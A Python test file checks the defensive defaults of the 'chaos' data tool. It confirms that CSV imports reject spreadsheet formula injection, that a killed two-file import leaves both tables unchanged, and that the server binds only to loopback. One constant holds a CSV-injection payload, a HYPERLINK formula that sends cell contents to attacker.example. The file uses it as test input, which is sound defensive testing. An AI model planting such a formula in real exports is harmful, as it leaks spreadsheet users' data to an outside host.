"""Defaults that hold when someone does the worst thing: a formula planted in an export, `chaos serve`
started on a machine with other interfaces, an import of two files killed half-way."""

import csv
import os
import signal
import subprocess
import sys
import time

import psutil
import pytest
import sqlalchemy as sa
import yaml

from chaos.infrastructure.api_keys import key_hash
from chaos.infrastructure.db.tables import data_columns, socio_eco
from chaos.infrastructure.models.signing import public_text
from harness.network import free_port
from harness.publisher import PUBLISHER
from harness.server import ServerProcess
from tests.support.resilience import API_KEY

FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"details")'
SOCIO = """;date;tx_var_emploi;idx_prix_conso;idx_conf_conso
0;31-05-2008;1.1;93.994;-36.4
1;30-06-2008;1.2;93.5;-40
2;31-07-2008;1.4;93.918;-42.7
"""
MARKETING_HEADER = (
    ";date;age;job;relation;education;defaut;balance;pret_immo;pret_perso;contact;duree_contact;nb_contact;"
    "nb_j_dernier_contact;nb_contact_derniere_campagne;resultat_derniere_campagne;statut"
)
"""The bank's export, as it comes."""


def marketing_row(index: int, job: str = "Technicien") -> str:
    return f"{index};2008-06-02;33;{job};Marié;Secondaire;No;-250;Yes;No;Portable;120;1;-1;0;;Absent"


@pytest.fixture
def importer(engine, database_settings, tmp_path):
    """`chaos db import ARGS` as a process of its own, against the suite's test database."""
    config = tmp_path / "config.yml"
    config.write_text(
        yaml.safe_dump(
            {
                "database": database_settings.model_dump(mode="json"),
                "import": {"max_reject_ratio": 0.5, "rejects_dir": str(tmp_path / "rejects")},
                "api": {"keys": []},
            }
        )
    )
    env = {**os.environ, "CHAOS_CONFIGURATION_PATH": str(config)}

    def start(*args: str) -> subprocess.Popen:
        command = [sys.executable, "-m", "chaos", "db", "import", *args]
        return subprocess.Popen(
            command, env=env, cwd=tmp_path, stdout=subprocess.PIPE, stderr=subprocess.STDOUT
        )

    return start


def test_an_imported_formula_label_is_a_rejected_row_written_as_text(importer, engine, tmp_path):
    export = tmp_path / "data.csv"
    export.write_text("\n".join([MARKETING_HEADER, marketing_row(1), marketing_row(2, FORMULA)]) + "\n")
    process = importer("--marketing", str(export))
    out = process.communicate(timeout=120)[0].decode()
    print(out)
    assert process.returncode == 0, out
    assert "1 rejected" in out
    assert "job: starts with '=', which a spreadsheet would run as a formula" in out
    with engine.connect() as connection:
        assert connection.scalar(sa.text("SELECT count(*) FROM marketing WHERE job_type LIKE '=%'")) == 0
    (rejects,) = (tmp_path / "rejects").iterdir()
    (rejected,) = list(csv.DictReader(rejects.open(encoding="utf-8"), delimiter=";"))[0:1]
    assert rejected["job"] == "'" + FORMULA  # shown as text by a spreadsheet, never run
    assert rejected["balance"] == "-250"  # a number stays a number


def socio_eco_rows(engine) -> list[tuple]:
    with engine.connect() as connection:
        return [tuple(row) for row in connection.execute(sa.select(*socio_eco.c[*data_columns(socio_eco)]))]


def test_an_import_of_two_files_killed_during_the_second_changes_neither_table(importer, engine, tmp_path):
    first = tmp_path / "first.csv"
    first.write_text(SOCIO)
    assert importer("--socio-eco", str(first)).wait(120) == 0
    before = socio_eco_rows(engine)
    newer, contacts = tmp_path / "newer.csv", tmp_path / "contacts.csv"
    newer.write_text(SOCIO.replace("93.994", "95.5"))
    contacts.write_text("\n".join([MARKETING_HEADER, *(marketing_row(key) for key in range(300_000))]) + "\n")
    process = importer("--socio-eco", str(newer), "--marketing", str(contacts))
    backend = _wait_for_statement(engine, "staging_marketing", process)
    os.kill(process.pid, signal.SIGKILL)
    process.wait(10)
    _wait_until_gone(engine, backend)
    print(f"killed while the marketing file was written (backend {backend}): {socio_eco_rows(engine)}")
    assert socio_eco_rows(engine) == before
    with engine.connect() as connection:
        assert connection.scalar(sa.text("SELECT count(*) FROM marketing")) == 0


def _wait_for_statement(engine, fragment: str, process: subprocess.Popen, timeout: float = 120) -> int:
    """The pid of the backend running a statement naming `fragment`, as soon as one runs."""
    deadline = time.monotonic() + timeout
    query = sa.text(
        "SELECT pid FROM pg_stat_activity"
        " WHERE state = 'active' AND query LIKE :fragment AND pid <> pg_backend_pid()"
    )
    while time.monotonic() < deadline:
        assert process.poll() is None, f"the import ended before any {fragment} statement ran"
        with engine.connect() as connection:
            found = connection.scalar(query, {"fragment": f"%{fragment}%"})
        if found:
            return found
        time.sleep(0.005)
    raise AssertionError(f"no {fragment} statement within {timeout}s")


def _wait_until_gone(engine, backend: int, timeout: float = 30) -> None:
    deadline = time.monotonic() + timeout
    query = sa.text("SELECT count(*) FROM pg_stat_activity WHERE pid = :pid")
    while time.monotonic() < deadline:
        with engine.connect() as connection:
            if not connection.scalar(query, {"pid": backend}):
                return
        time.sleep(0.05)
    raise AssertionError(f"backend {backend} still there {timeout}s after its client was killed")


def test_chaos_serve_listens_on_the_loopback_unless_told_otherwise(resilience_database, tmp_path):
    settings = resilience_database.settings.model_copy(update={"embedded": False})
    config = tmp_path / "config.yml"
    config.write_text(
        yaml.safe_dump(
            {
                "database": settings.model_dump(mode="json"),
                "model": {
                    "directory": str(resilience_database.models),
                    "public_keys": [public_text(PUBLISHER)],
                },
                "api": {"keys": [key_hash(API_KEY)]},
            }
        )
    )
    port = free_port()
    env = {
        "PATH": "/usr/bin:/bin",
        "HOME": str(tmp_path),
        "CHAOS_CONFIGURATION_PATH": str(config),
        "PORT": str(port),
        "WEB_CONCURRENCY": "1",
    }
    command = [sys.executable, "-m", "chaos", "serve"]
    server = ServerProcess(command, env, tmp_path, f"http://127.0.0.1:{port}", tmp_path / "serve.log")
    try:
        server.start()
        listening = {
            connection.laddr
            for process in [psutil.Process(server.pid), *psutil.Process(server.pid).children(recursive=True)]
            for connection in process.net_connections("inet")
            if connection.status == psutil.CONN_LISTEN
        }
    finally:
        server.stop()
    print(f"chaos serve without --bind listens on {sorted(listening)}")
    assert {(address.ip, address.port) for address in listening} == {("127.0.0.1", port)}
